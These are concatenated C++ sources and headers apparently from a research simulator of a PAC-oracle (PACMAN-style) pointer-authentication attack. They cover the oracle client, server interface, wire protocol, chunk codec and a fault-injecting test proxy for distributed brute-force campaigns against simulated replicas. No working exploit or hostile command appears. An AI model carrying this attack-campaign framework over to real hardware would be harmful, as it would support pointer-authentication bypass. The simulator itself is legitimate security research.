    const WireMessage resp = callChecked(
        "QUERY",
        strprintf("%04x %016llx", candidate,
                  (unsigned long long)stream_seed),
        encodeReplicaWire(replica, sup));
    std::istringstream in(resp.args);
    int hot = 0;
    QueryResult r;
    if (!(in >> hot >> r.misses))
        throw WireError("malformed QUERY response: " + resp.args);
    r.hot = hot != 0;
    return r;
}

uint16_t
OracleClient::truth(const ReplicaConfig &replica,
                    const SupervisionConfig &sup)
{
    const WireMessage resp =
        callChecked("TRUTH", {}, encodeReplicaWire(replica, sup));
    unsigned long long pac = 0;
    if (sscanf(resp.args.c_str(), "%llx", &pac) != 1 || pac > 0xFFFF)
        throw WireError("malformed TRUTH response: " + resp.args);
    return uint16_t(pac);
}

std::string
OracleClient::chunkPayload(const std::string &request_body)
{
    return callChecked("CHUNK", {}, request_body).body;
}

std::string
OracleClient::metricsJson()
{
    return callChecked("METRICS", {}, {}).body;
}

void
OracleClient::ping()
{
    callChecked("PING", {}, {});
}

void
OracleClient::drain()
{
    callChecked("DRAIN", {}, {});
}

// --- Remote campaign runners ---------------------------------------

namespace
{

/** One lazily connected client per pool slot. */
OracleClient &
slotClient(std::vector<std::unique_ptr<OracleClient>> &slots,
           unsigned worker, const std::string &endpoint)
{
    std::unique_ptr<OracleClient> &slot = slots[worker];
    if (!slot)
        slot = std::make_unique<OracleClient>(endpoint);
    return *slot;
}

} // anonymous namespace

BruteForceCampaignResult
runBruteForceCampaignRemote(const BruteForceCampaignConfig &cfg,
                            const std::string &endpoint)
{
    std::vector<std::unique_ptr<OracleClient>> clients(
        effectiveJobs(cfg.pool.jobs));
    return runBruteForceCampaignWith(
        cfg, [&](unsigned worker, const Chunk &chunk) {
            return slotClient(clients, worker, endpoint)
                .chunkPayload(encodeBfChunkRequest(cfg, chunk));
        });
}

AccuracyCampaignResult
runAccuracyCampaignRemote(const AccuracyCampaignConfig &cfg,
                          const std::string &endpoint)
{
    std::vector<std::unique_ptr<OracleClient>> clients(
        effectiveJobs(cfg.pool.jobs));
    return runAccuracyCampaignWith(
        cfg, [&](unsigned worker, const Chunk &chunk) {
            return slotClient(clients, worker, endpoint)
                .chunkPayload(encodeAccuracyChunkRequest(cfg, chunk));
        });
}

} // namespace pacman::runner
