#include "chaos_proxy.hh"

#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <cstring>
#include <fstream>
#include <mutex>
#include <thread>
#include <vector>

#include "base/logging.hh"
#include "base/random.hh"
#include "runner/client.hh"
#include "runner/protocol.hh"

namespace pacman::runner
{

namespace
{

void
shutdownFd(int fd)
{
    if (fd >= 0)
        ::shutdown(fd, SHUT_RDWR);
}

} // anonymous namespace

struct ChaosProxy::Impl
{
    explicit Impl(const ChaosProxyConfig &cfg) : cfg(cfg)
    {
        const std::optional<Endpoint> up = parseEndpoint(cfg.upstream);
        if (!up)
            throw WireError("malformed upstream endpoint: " +
                            cfg.upstream);
        upstream = *up;

        if (!cfg.logPath.empty()) {
            log.open(cfg.logPath, std::ios::app);
            if (!log)
                warn("chaos proxy: cannot open log %s",
                     cfg.logPath.c_str());
        }

        listenFd = ::socket(AF_INET, SOCK_STREAM, 0);
        if (listenFd < 0)
            throw WireError(strprintf("chaos proxy socket: %s",
                                      std::strerror(errno)));
        sockaddr_in addr{};
        addr.sin_family = AF_INET;
        addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        addr.sin_port = 0; // ephemeral
        if (::bind(listenFd, reinterpret_cast<sockaddr *>(&addr),
                   sizeof(addr)) != 0 ||
            ::listen(listenFd, 64) != 0) {
            const int err = errno;
            ::close(listenFd);
            throw WireError(strprintf("chaos proxy listen: %s",
                                      std::strerror(err)));
        }
        socklen_t alen = sizeof(addr);
        ::getsockname(listenFd, reinterpret_cast<sockaddr *>(&addr),
                      &alen);
        endpoint = strprintf("tcp:127.0.0.1:%u",
                             unsigned(ntohs(addr.sin_port)));

        acceptor = std::thread([this] { acceptLoop(); });
    }

    ~Impl()
    {
        stop.store(true);
        shutdownFd(listenFd);
        {
            std::lock_guard<std::mutex> lock(mu);
            for (int fd : liveFds)
                shutdownFd(fd);
        }
        acceptor.join();
        for (std::thread &t : relays)
            t.join();
        {
            std::lock_guard<std::mutex> lock(mu);
            for (int fd : liveFds)
                ::close(fd);
        }
        ::close(listenFd);
    }

    void
    acceptLoop()
    {
        uint64_t conn_ordinal = 0;
        while (!stop.load()) {
            pollfd pfd{listenFd, POLLIN, 0};
            if (::poll(&pfd, 1, 100) <= 0)
                continue;
            const int cfd = ::accept(listenFd, nullptr, nullptr);
            if (cfd < 0)
                continue;
            int ufd = -1;
            try {
                ufd = connectEndpoint(upstream, 1.0);
            } catch (const WireError &e) {
                warn("chaos proxy: upstream connect failed: %s",
                     e.what());
                ::close(cfd);
                continue;
            }
            const uint64_t conn = conn_ordinal++;
            std::lock_guard<std::mutex> lock(mu);
            ++counters.connections;
            liveFds.push_back(cfd);
            liveFds.push_back(ufd);
            relays.emplace_back(
                [this, cfd, ufd] { relayRaw(cfd, ufd); });
            relays.emplace_back(
                [this, cfd, ufd, conn] { relayFrames(ufd, cfd, conn); });
        }
    }

    /** client→server leg: byte-exact passthrough (requests must
     *  arrive intact; only responses are faulted). */
    void
    relayRaw(int from, int to)
    {
        char buf[4096];
        for (;;) {
            const ssize_t n = ::read(from, buf, sizeof(buf));
            if (n <= 0)
                break;
            try {
                writeBytes(to, buf, size_t(n));
            } catch (const WireError &) {
                break;
            }
        }
        shutdownFd(from);
        shutdownFd(to);
    }

    /** server→client leg: frame-aware with deterministic faults. */
    void
    relayFrames(int from, int to, uint64_t conn)
    {
        uint64_t frame = 0;
        try {
            for (;;) {
                char header[FrameHeaderBytes];
                if (!readBytes(from, header, sizeof(header)))
                    break; // upstream closed cleanly
                const uint32_t len = parseFrameHeader(header);
                std::string payload(len, '\0');
                if (len > 0 &&
                    !readBytes(from, payload.data(), len))
                    break;

                if (cfg.blackhole) {
                    // Swallow the response: the client can only
                    // escape via its read deadline.
                    record(conn, frame++, "blackhole");
                    continue;
                }
                if (!applyFault(to, conn, frame++, header, payload))
                    break; // connection-terminating fault
            }
        } catch (const WireError &) {
            // Torn upstream or write failure toward the client: the
            // relay for this connection is over either way.
        }
        shutdownFd(from);
        shutdownFd(to);
    }

    /**
     * Roll this frame's fault from its private stream and forward
     * accordingly. Returns false when the fault tears the connection
     * down. The decision consumes RNG in a fixed order, so the fault
     * schedule for (seed, conn, frame) is a pure function —
     * independent of thread scheduling and of the other connections.
     */
    bool
    applyFault(int to, uint64_t conn, uint64_t frame,
               char header[FrameHeaderBytes], std::string &payload)
    {
        Random rng(
            Random::deriveSeed(cfg.seed, (conn << 20) | frame));
        const uint32_t len = uint32_t(payload.size());

        if (rng.chance(cfg.dropRate)) {
            record(conn, frame, "drop");
            bump(&Counters::drops);
            return false;
        }
        if (len > 0 && rng.chance(cfg.corruptRate)) {
            // Flip one payload byte under the ORIGINAL header CRC:
            // the client must catch the mismatch, not the proxy.
            payload[size_t(rng.next(len))] ^= 0x01;
            record(conn, frame, "corrupt");
            bump(&Counters::corruptions);
            forward(to, header, payload);
            return true;
        }
        if (len > 0 && rng.chance(cfg.truncateRate)) {
            // Header promises len bytes; deliver fewer, then tear
            // down — the client sees a mid-frame EOF.
            const size_t keep = size_t(rng.next(len));
            record(conn, frame, "truncate");
            bump(&Counters::truncations);
            writeBytes(to, header, FrameHeaderBytes);
            if (keep > 0)
                writeBytes(to, payload.data(), keep);
            return false;
        }
        if (rng.chance(cfg.delayRate)) {
            record(conn, frame, "delay");
            bump(&Counters::delays);
            std::this_thread::sleep_for(
                std::chrono::duration<double>(cfg.delaySeconds));
            forward(to, header, payload);
            return true;
        }
        if (rng.chance(cfg.duplicateRate)) {
            record(conn, frame, "duplicate");
            bump(&Counters::duplicates);
            forward(to, header, payload);
            forward(to, header, payload);
            return true;
        }
        forward(to, header, payload);
        return true;
    }

    void
    forward(int to, const char header[FrameHeaderBytes],
            const std::string &payload)
    {
        writeBytes(to, header, FrameHeaderBytes);
        if (!payload.empty())
            writeBytes(to, payload.data(), payload.size());
        std::lock_guard<std::mutex> lock(mu);
        ++counters.framesForwarded;
    }

    void
    bump(uint64_t Counters::*field)
    {
        std::lock_guard<std::mutex> lock(mu);
        ++(counters.*field);
    }

    void
    record(uint64_t conn, uint64_t frame, const char *fault)
    {
        std::lock_guard<std::mutex> lock(mu);
        if (!log)
            return;
        log << strprintf("conn=%llu frame=%llu fault=%s",
                         (unsigned long long)conn,
                         (unsigned long long)frame, fault)
            << "\n";
        log.flush();
    }

    const ChaosProxyConfig cfg;
    Endpoint upstream;
    std::string endpoint;

    int listenFd = -1;
    std::atomic<bool> stop{false};
    std::thread acceptor;

    mutable std::mutex mu;
    std::vector<std::thread> relays; //!< guarded by mu until joined
    std::vector<int> liveFds;        //!< guarded by mu
    Counters counters;
    std::ofstream log;
};

ChaosProxy::ChaosProxy(const ChaosProxyConfig &cfg)
    : cfg_(cfg), impl_(std::make_unique<Impl>(cfg_))
{
}

ChaosProxy::~ChaosProxy() = default;

const std::string &
ChaosProxy::endpoint() const
{
    return impl_->endpoint;
}

ChaosProxy::Counters
ChaosProxy::counters() const
{
    std::lock_guard<std::mutex> lock(impl_->mu);
    return impl_->counters;
}

} // namespace pacman::runner
