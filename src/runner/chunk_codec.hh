/**
 * @file
 * The campaign chunk codec: one chunk of campaign work as a unit of
 * execution and as a bit-exact serialized payload (DESIGN.md §4h).
 *
 * A chunk result travels three ways and must be identical on all of
 * them: merged in-process right after execution, replayed from the
 * crash-recovery journal on resume, and shipped over the oracle
 * server's wire protocol from a remote replica. This header is the
 * single definition of that unit — the structs, the line-oriented
 * encoding (doubles travel as their 64-bit patterns in hex so a
 * decode is bit-exact, never printf round-tripped), and the
 * executors that produce a chunk's result against a supervised
 * runner::Worker.
 *
 * The campaign runners (campaign.cc), the journal resume path, and
 * the oracle server (server.cc) all dispatch through encoded chunk
 * payloads, which is what makes a remote campaign's merged
 * fingerprint bit-identical to the in-process run: the bytes being
 * merged are the same bytes.
 */

#ifndef PACMAN_RUNNER_CHUNK_CODEC_HH
#define PACMAN_RUNNER_CHUNK_CODEC_HH

#include <optional>
#include <string>
#include <vector>

#include "runner/campaign.hh"

namespace pacman::runner
{

/** The replica's per-candidate sampling policy. */
attack::ResamplePolicy resamplePolicy(const ReplicaConfig &cfg);

/** One brute-force chunk's completed result (journal/wire unit). */
struct BfChunkResult
{
    attack::BruteForceStats stats;
    SampleStat decisions;
    attack::OracleStats oracle;
    FaultStats faults;
    std::optional<QuarantineRecord> quarantine;
};

/** One accuracy trial's graded outcome. */
enum class TrialVerdict : unsigned
{
    TruePositive = 0,
    FalsePositive = 1,
    FalseNegative = 2,
    Quarantined = 3,
};

struct TrialResult
{
    TrialVerdict verdict = TrialVerdict::FalseNegative;
    attack::BruteForceStats stats;
    attack::OracleStats oracle;
    FaultStats faults;
    std::optional<QuarantineRecord> quarantine;
};

/** Serialize one brute-force chunk result. */
std::string encodeBfChunk(const BfChunkResult &r);

/** Parse encodeBfChunk()'s output; false on malformed payload. */
bool decodeBfChunk(const std::string &payload, BfChunkResult &r);

/**
 * Serialize one accuracy chunk: @p trials holds the chunk's trials
 * in chunk-local order (trials[0] is chunk.firstItem). Lines carry
 * the absolute trial index so a payload is self-describing.
 */
std::string encodeTrialChunk(const std::vector<TrialResult> &trials,
                             const Chunk &chunk);

/** Parse encodeTrialChunk()'s output into chunk-local order. */
bool decodeTrialChunk(const std::string &payload,
                      std::vector<TrialResult> &trials,
                      const Chunk &chunk);

/**
 * Execute one brute-force chunk against @p w and return the encoded
 * result payload. Quarantine handling (a chunk no ladder rung could
 * complete contributes only its quarantine record) happens here, so
 * every dispatcher — in-process, resumed, remote — agrees on the
 * payload bytes.
 */
std::string executeBfChunk(Worker &w,
                           const BruteForceCampaignConfig &cfg,
                           const Chunk &chunk);

/** Execute one accuracy chunk (per-trial rekey) against @p w. */
std::string executeAccuracyChunk(Worker &w,
                                 const AccuracyCampaignConfig &cfg,
                                 const Chunk &chunk);

/**
 * The accuracy campaign's per-trial work: rekey already happened in
 * the worker's beginItem; read ground truth, place the window,
 * search, grade. Shared with replayQuarantine so a quarantined trial
 * reproduces the exact campaign execution. Resets @p r first — the
 * recovery ladder may run the function several times for one trial.
 */
void runAccuracyTrial(const AccuracyCampaignConfig &cfg,
                      attack::PacOracle &oracle,
                      kernel::Machine &machine, TrialResult &r);

/** Replay/server-side supervision: same budgets and recovery
 *  ladder, no journal (journaling belongs to the campaign owner). */
SupervisionConfig replaySupervision(const SupervisionConfig &sup);

} // namespace pacman::runner

#endif // PACMAN_RUNNER_CHUNK_CODEC_HH
