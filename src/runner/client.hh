/**
 * @file
 * Client for pacman-oracled (server.hh): connection management,
 * pipelined request/response matching, the high-level single-query
 * API, and the remote campaign runners.
 *
 * A remote campaign is the dispatcher-parameterized local campaign
 * (campaign.hh) with chunk execution moved across the wire: each
 * pool slot holds one connection, every chunk travels as a CHUNK
 * request, and the returned chunk_codec payload is journaled and
 * merged by exactly the code the in-process path uses. The merged
 * fingerprint is therefore bit-identical to a local run at any
 * --jobs count — proven by bench/server_campaign and the server-kill
 * scenario of bench/chaos_recovery.
 *
 * Backpressure: a BUSY response (admission control) is retried with
 * exponential backoff; ERR responses throw. A torn connection
 * surfaces as WireError, which the campaign runner converts to
 * CampaignAborted — completed chunks stay journaled, so rerunning
 * with SupervisionConfig::resume picks up where the campaign died.
 */

#ifndef PACMAN_RUNNER_CLIENT_HH
#define PACMAN_RUNNER_CLIENT_HH

#include <cstdint>
#include <map>
#include <string>

#include "runner/protocol.hh"

namespace pacman::runner
{

/** One connection to a pacman-oracled instance. Not thread-safe:
 *  campaigns use one client per pool slot. */
class OracleClient
{
  public:
    OracleClient() = default;

    /** Connect immediately (see connect()). */
    explicit OracleClient(const std::string &endpoint);

    ~OracleClient();

    OracleClient(const OracleClient &) = delete;
    OracleClient &operator=(const OracleClient &) = delete;

    /**
     * Connect to @p endpoint: "unix:<path>", "tcp:<host>:<port>", or
     * a bare Unix socket path. Throws WireError on failure.
     */
    void connect(const std::string &endpoint);

    bool connected() const { return fd_ >= 0; }

    void close();

    /** Bind this connection to a tenant (HELLO). */
    void hello(const std::string &tenant, uint64_t secret);

    /** Fire one request without waiting; returns its id. */
    uint64_t sendRequest(const std::string &verb,
                         const std::string &args = {},
                         const std::string &body = {});

    /**
     * Wait for the response to @p id. Responses arriving for other
     * outstanding ids are buffered, so requests can be pipelined and
     * completed out of order.
     */
    WireMessage readResponse(uint64_t id);

    /** sendRequest + readResponse. */
    WireMessage call(const std::string &verb,
                     const std::string &args = {},
                     const std::string &body = {});

    /** One PAC-oracle query against the given replica config. */
    struct QueryResult
    {
        bool hot = false;   //!< oracle classified the PAC correct
        double misses = 0;  //!< sampled probe-miss count
    };
    QueryResult query(uint16_t candidate, uint64_t stream_seed,
                      const ReplicaConfig &replica,
                      const SupervisionConfig &sup = {});

    /** Ground-truth PAC (server must run with allowTruth). */
    uint16_t truth(const ReplicaConfig &replica,
                   const SupervisionConfig &sup = {});

    /**
     * Execute one campaign chunk remotely and return the encoded
     * chunk_codec payload. Retries BUSY with exponential backoff;
     * throws WireError on ERR or a torn connection.
     */
    std::string chunkPayload(const std::string &request_body);

    /** The server's pacman-bench-v1 metrics document. */
    std::string metricsJson();

    void ping();

    /** Ask the server to drain (stop accepting, finish, exit). */
    void drain();

  private:
    WireMessage callChecked(const std::string &verb,
                            const std::string &args,
                            const std::string &body);

    int fd_ = -1;
    uint64_t nextId_ = 1;
    std::map<uint64_t, WireMessage> pending_;
};

/**
 * Run a whole campaign against a pacman-oracled endpoint. Journal
 * resume, quarantine files, and the merge all behave exactly as in
 * the in-process runners; only chunk execution is remote. Throws
 * CampaignAborted when the server becomes unreachable mid-campaign.
 */
BruteForceCampaignResult
runBruteForceCampaignRemote(const BruteForceCampaignConfig &cfg,
                            const std::string &endpoint);

AccuracyCampaignResult
runAccuracyCampaignRemote(const AccuracyCampaignConfig &cfg,
                          const std::string &endpoint);

} // namespace pacman::runner

#endif // PACMAN_RUNNER_CLIENT_HH
