/**
 * @file
 * Client for pacman-oracled (server.hh): connection management,
 * pipelined request/response matching, the high-level single-query
 * API, and the remote campaign runners.
 *
 * A remote campaign is the dispatcher-parameterized local campaign
 * (campaign.hh) with chunk execution moved across the wire: each
 * pool slot holds one connection, every chunk travels as a CHUNK
 * request, and the returned chunk_codec payload is journaled and
 * merged by exactly the code the in-process path uses. The merged
 * fingerprint is therefore bit-identical to a local run at any
 * --jobs count — proven by bench/server_campaign and the server-kill
 * scenario of bench/chaos_recovery.
 *
 * Failure model: a BUSY response (admission control) is retried with
 * exponential backoff, bounded by ClientOptions::busyDeadlineSeconds
 * (BusyExhausted on expiry); a read that outlives
 * ClientOptions::readTimeoutSeconds throws WireTimeout; ERR responses
 * and torn connections throw WireError. Every one of these closes the
 * connection first — a timed-out or desynchronised stream can never
 * be reused — so callers reconnect (or fail over, dispatch.hh) from a
 * clean slate. The single-endpoint campaign runners below route
 * through a one-endpoint EndpointPool, which converts the final
 * failure to CampaignAborted; completed chunks stay journaled, so
 * rerunning with SupervisionConfig::resume picks up where the
 * campaign died.
 */

#ifndef PACMAN_RUNNER_CLIENT_HH
#define PACMAN_RUNNER_CLIENT_HH

#include <cstdint>
#include <map>
#include <optional>
#include <string>

#include "runner/protocol.hh"

namespace pacman::runner
{

/** The admission-control backoff budget expired: the server kept
 *  answering BUSY for the whole busyDeadlineSeconds window. */
struct BusyExhausted : WireError
{
    using WireError::WireError;
};

/** A parsed endpoint specification. */
struct Endpoint
{
    enum class Kind
    {
        Unix,
        Tcp,
    };

    Kind kind = Kind::Unix;
    std::string path; //!< Unix socket path
    std::string host; //!< TCP host (IPv6 literals without brackets)
    std::string port; //!< TCP port or service name
};

/**
 * Parse "unix:<path>", "tcp:<host>:<port>", "tcp:[<v6>]:<port>", or
 * a bare Unix socket path. IPv6 literals must be bracketed (the colon
 * would otherwise be read as the host:port separator). Returns
 * nullopt on a malformed spec (empty path/host/port, unbalanced
 * brackets).
 */
std::optional<Endpoint> parseEndpoint(const std::string &spec);

/**
 * Open a connected stream socket to @p ep (TCP resolution is
 * AF_UNSPEC; @p timeout_seconds > 0 bounds the TCP handshake, throwing
 * WireTimeout on expiry). The caller owns the returned fd. Shared by
 * OracleClient and relays (chaos_proxy.hh) that dial upstream.
 */
int connectEndpoint(const Endpoint &ep, double timeout_seconds = 0);

/** Per-connection failure-detection knobs (all 0 = wait forever,
 *  the pre-deadline behaviour). */
struct ClientOptions
{
    /** Bound on establishing a TCP connection; 0 = OS default. */
    double connectTimeoutSeconds = 0;

    /** Bound on one response frame arriving (poll-based); expiry
     *  throws WireTimeout and closes the connection. */
    double readTimeoutSeconds = 0;

    /** Overall budget for the BUSY retry loop per call; expiry
     *  throws BusyExhausted. */
    double busyDeadlineSeconds = 0;
};

/** One connection to a pacman-oracled instance. Not thread-safe:
 *  campaigns use one client per pool slot. */
class OracleClient
{
  public:
    OracleClient() = default;

    explicit OracleClient(const ClientOptions &opts) : opts_(opts) {}

    /** Connect immediately (see connect()). */
    explicit OracleClient(const std::string &endpoint,
                          const ClientOptions &opts = {});

    ~OracleClient();

    OracleClient(const OracleClient &) = delete;
    OracleClient &operator=(const OracleClient &) = delete;

    /**
     * Connect to @p endpoint (see parseEndpoint() for the accepted
     * forms; TCP resolution is AF_UNSPEC, so IPv6 endpoints work).
     * Throws WireError on failure, WireTimeout when
     * connectTimeoutSeconds expires first.
     */
    void connect(const std::string &endpoint);

    /** Adopt an already-connected fd (tests drive the peer end of a
     *  socketpair directly). The client owns and closes it. */
    void adopt(int fd);

    /** close() + connect() to the endpoint of the last connect().
     *  Pending pipelined responses are discarded. */
    void reconnect();

    bool connected() const { return fd_ >= 0; }

    /** The endpoint of the last connect() (empty for adopt()). */
    const std::string &endpoint() const { return endpoint_; }

    const ClientOptions &options() const { return opts_; }
    void setOptions(const ClientOptions &opts) { opts_ = opts; }

    void close();

    /** Bind this connection to a tenant (HELLO). */
    void hello(const std::string &tenant, uint64_t secret);

    /** Fire one request without waiting; returns its id. Closes the
     *  connection and rethrows on a wire failure. */
    uint64_t sendRequest(const std::string &verb,
                         const std::string &args = {},
                         const std::string &body = {});

    /**
     * Wait for the response to @p id. Responses arriving for other
     * outstanding ids are buffered, so requests can be pipelined and
     * completed out of order. A wire failure (torn connection,
     * malformed frame, read timeout) closes the connection before the
     * error propagates — buffered responses are discarded with it.
     */
    WireMessage readResponse(uint64_t id);

    /** Buffered out-of-order responses awaiting their readResponse
     *  (diagnostics/tests). */
    size_t pendingResponses() const { return pending_.size(); }

    /** sendRequest + readResponse. */
    WireMessage call(const std::string &verb,
                     const std::string &args = {},
                     const std::string &body = {});

    /** One PAC-oracle query against the given replica config. */
    struct QueryResult
    {
        bool hot = false;   //!< oracle classified the PAC correct
        double misses = 0;  //!< sampled probe-miss count
    };
    QueryResult query(uint16_t candidate, uint64_t stream_seed,
                      const ReplicaConfig &replica,
                      const SupervisionConfig &sup = {});

    /** Ground-truth PAC (server must run with allowTruth). */
    uint16_t truth(const ReplicaConfig &replica,
                   const SupervisionConfig &sup = {});

    /**
     * Execute one campaign chunk remotely and return the encoded
     * chunk_codec payload. Retries BUSY under the busy deadline;
     * throws WireError/WireTimeout/BusyExhausted per the failure
     * model above.
     */
    std::string chunkPayload(const std::string &request_body);

    /** The server's pacman-bench-v1 metrics document. */
    std::string metricsJson();

    /** Liveness probe. Returns true when the server is accepting
     *  work, false when it answered but is draining (health probes
     *  treat a draining endpoint as down for new dispatch). */
    bool ping();

    /** Ask the server to drain (stop accepting, finish, exit). */
    void drain();

  private:
    WireMessage callChecked(const std::string &verb,
                            const std::string &args,
                            const std::string &body);

    int fd_ = -1;
    uint64_t nextId_ = 1;
    std::string endpoint_;
    ClientOptions opts_;
    std::map<uint64_t, WireMessage> pending_;
};

/**
 * Run a whole campaign against a single pacman-oracled endpoint —
 * shorthand for an EndpointPool of one (dispatch.hh), which is where
 * deadlines, reconnects and the retry budget live. Throws
 * CampaignAborted when the endpoint stays unreachable past the retry
 * budget. For multi-endpoint failover, use the DispatchConfig
 * overloads in dispatch.hh.
 */
BruteForceCampaignResult
runBruteForceCampaignRemote(const BruteForceCampaignConfig &cfg,
                            const std::string &endpoint);

AccuracyCampaignResult
runAccuracyCampaignRemote(const AccuracyCampaignConfig &cfg,
                          const std::string &endpoint);

} // namespace pacman::runner

#endif // PACMAN_RUNNER_CLIENT_HH
