/**
 * @file
 * pacman-oracled: the persistent PAC-oracle server (DESIGN.md §4h).
 *
 * The server owns a pool of provisioned, checkpointed replicas —
 * one supervised runner::Worker cache per service thread — and
 * serves oracle work over the length-prefixed wire protocol
 * (protocol.hh) on a Unix socket and, optionally, a loopback TCP
 * port. Request verbs:
 *
 *   HELLO <name> <secret-hex>  bind the connection to a tenant
 *   QUERY <pac-hex> <stream>   one PAC-oracle query (body: replica
 *                              wire config); OK <verdict> <misses>
 *   TRUTH                      ground-truth PAC for the configured
 *                              target (grading; requires allowTruth)
 *   CHUNK                      one whole campaign chunk (body:
 *                              protocol.hh chunk request); OK body
 *                              is the chunk_codec payload
 *   METRICS                    pacman-bench-v1 metrics JSON
 *   PING / SLEEP <ms> / DRAIN  liveness, test load, graceful stop
 *
 * Tenancy: a HELLO'd connection derives a per-tenant PAC key seed
 * (deriveSeed(secret, crc32(name))) that is applied to every QUERY
 * and TRUTH via WorkRequest::rekeySeed — two tenants sharing one
 * cached replica operate under different PAC keys, and the
 * per-request checkpoint restore discards whatever state the
 * previous request left behind. CHUNK requests carry campaign
 * semantics (the campaign seed dictates keys) and are tenant-scoped
 * only for accounting.
 *
 * Admission control: compute requests enter a bounded queue; a full
 * queue answers BUSY immediately (the client retries with backoff —
 * backpressure, not buffering). METRICS/PING/HELLO bypass the queue
 * so observability survives overload. DRAIN (or SIGTERM in
 * oracled_main) stops accepting connections, completes queued work,
 * and lets waitDrained() return — in-flight campaign chunks are
 * never dropped.
 */

#ifndef PACMAN_RUNNER_SERVER_HH
#define PACMAN_RUNNER_SERVER_HH

#include <cstdint>
#include <memory>
#include <string>

namespace pacman::runner
{

/** Deployment knobs for one pacman-oracled instance. */
struct ServerConfig
{
    /** Unix-domain listening socket path (required). */
    std::string socketPath;

    /** Optional loopback TCP listener; 0 disables, other values
     *  bind 127.0.0.1:<port> (1 = ephemeral, see boundTcpPort()). */
    uint16_t tcpPort = 0;

    /** Service threads == concurrently executing replicas. Each
     *  thread caches one provisioned Worker per distinct replica
     *  config, so steady-state campaign chunks pay only a
     *  checkpoint restore. */
    unsigned threads = 2;

    /** Bounded compute queue; admission control answers BUSY beyond
     *  this depth. */
    unsigned maxQueue = 64;

    /** Enable the TRUTH verb (tests and accuracy grading only — a
     *  deployment serving untrusted tenants keeps this off). */
    bool allowTruth = false;

    /** Chaos hook: _Exit(137) right after the n-th CHUNK response
     *  is written. 0 disables. bench/chaos_recovery uses this to
     *  prove client-side resume across a server kill. */
    uint64_t crashAfterChunks = 0;
};

/** The server runtime (acceptor + readers + service threads). */
class OracleServer
{
  public:
    explicit OracleServer(const ServerConfig &cfg);
    ~OracleServer();

    OracleServer(const OracleServer &) = delete;
    OracleServer &operator=(const OracleServer &) = delete;

    /** Bind listeners and spawn the thread pool. Throws
     *  std::runtime_error when a bind fails. */
    void start();

    /** Actual TCP port (after an ephemeral bind); 0 when disabled. */
    uint16_t boundTcpPort() const;

    /** Begin graceful drain: stop accepting, finish queued work. */
    void requestDrain();

    /** True once requestDrain() (or a DRAIN request) fired. */
    bool draining() const;

    /** Block until drained: all queued work done, threads joined,
     *  sockets closed and the socket path unlinked. */
    void waitDrained();

    /** The live pacman-bench-v1 metrics document (also served by the
     *  METRICS verb). */
    std::string metricsJson() const;

  private:
    struct Impl;
    std::unique_ptr<Impl> impl_;
};

} // namespace pacman::runner

#endif // PACMAN_RUNNER_SERVER_HH
