/**
 * @file
 * Wire protocol for the PAC-oracle server (pacman-oracled;
 * DESIGN.md §4h).
 *
 * Transport framing: each message travels as one length-prefixed
 * frame — a 12-byte header (magic "PAC1", little-endian uint32
 * payload length, little-endian uint32 CRC32 of the payload, the
 * same CRC the journal uses) followed by the payload bytes. The CRC
 * rejects stream desynchronisation and torn writes the same way the
 * journal's frame CRC rejects a torn tail.
 *
 * Message payloads are text: a head line `<id> <verb>[ <args>]`
 * followed by an optional body. The id is chosen by the requester
 * and echoed verbatim in the response, which lets a client pipeline
 * requests and match responses out of order. Response verbs are OK
 * (result in args/body), BUSY (admission control rejected the
 * request; retry later), and ERR (args carries the reason).
 *
 * Configuration codec: a replica travels as the line-oriented
 * `pacman-oracle-wire-v1` text — campaign-variable machine fields
 * (seed, timer, ambient noise), the mitigation/speculation switches,
 * the full oracle tuning, target binding, the full fault plan, and
 * the supervision budgets. Cache/TLB geometry is deliberately NOT on
 * the wire: geometry is deployment configuration (the server's
 * replicas are provisioned for one simulated microarchitecture),
 * while everything a campaign varies is per-request. Doubles travel
 * as 64-bit hex patterns, so a decoded config provisions a replica
 * bit-identical to the client's local one — the foundation of the
 * remote == in-process fingerprint guarantee.
 */

#ifndef PACMAN_RUNNER_PROTOCOL_HH
#define PACMAN_RUNNER_PROTOCOL_HH

#include <cstdint>
#include <optional>
#include <stdexcept>
#include <string>
#include <string_view>

#include "runner/campaign.hh"

namespace pacman::runner
{

/** Transport or framing failure (broken pipe, bad magic/CRC). */
struct WireError : std::runtime_error
{
    using std::runtime_error::runtime_error;
};

/**
 * A read deadline expired before a whole frame arrived. The stream
 * may now be mid-frame (desynchronised), so the only safe recovery
 * is to close the connection and reconnect — OracleClient does this
 * automatically before letting the error propagate.
 */
struct WireTimeout : WireError
{
    using WireError::WireError;
};

/** Frame payloads above this are rejected as desynchronisation. */
constexpr uint32_t MaxFrameBytes = 64u << 20;

/** Transport frame header size: magic + length + CRC32. */
constexpr size_t FrameHeaderBytes = 12;

/** Version line every config payload must lead with. */
constexpr const char *WireVersion = "pacman-oracle-wire-v1";

/**
 * Write @p len raw bytes (EINTR-retried, whole buffer). Sockets are
 * written with send(MSG_NOSIGNAL) so a torn peer surfaces as a
 * WireError (EPIPE) without the caller having to ignore SIGPIPE
 * process-wide; non-socket fds (pipes in tests) fall back to
 * write(2), where the caller owns the SIGPIPE disposition.
 */
void writeBytes(int fd, const char *data, size_t len);

/** Read exactly @p len raw bytes. Returns false on EOF before the
 *  first byte; throws WireError on EOF mid-read or I/O failure.
 *  @p deadline_seconds > 0 bounds the whole read (poll-based) and
 *  throws WireTimeout on expiry; <= 0 blocks indefinitely. */
bool readBytes(int fd, char *data, size_t len,
               double deadline_seconds = 0);

/**
 * Validate a raw frame header (magic, length bound) and return the
 * payload length it announces. Throws WireError on bad magic or an
 * oversize length. Used by relays that forward frames verbatim.
 */
uint32_t parseFrameHeader(const char header[FrameHeaderBytes]);

/**
 * Write one frame to @p fd (blocking, EINTR-retried, whole frame).
 * Throws WireError on I/O failure or oversize payload.
 */
void writeFrame(int fd, std::string_view payload);

/**
 * Read one frame from @p fd. Returns nullopt on a clean EOF at a
 * frame boundary (peer closed); throws WireError on mid-frame EOF,
 * bad magic, oversize length, or CRC mismatch. With
 * @p deadline_seconds > 0 the whole frame must arrive within the
 * deadline or WireTimeout is thrown (see WireTimeout on recovery).
 */
std::optional<std::string> readFrame(int fd,
                                     double deadline_seconds = 0);

/** One request or response (the text inside a frame). */
struct WireMessage
{
    uint64_t id = 0;
    std::string verb;
    std::string args; //!< rest of the head line (may be empty)
    std::string body; //!< everything after the head line
};

std::string packMessage(const WireMessage &m);

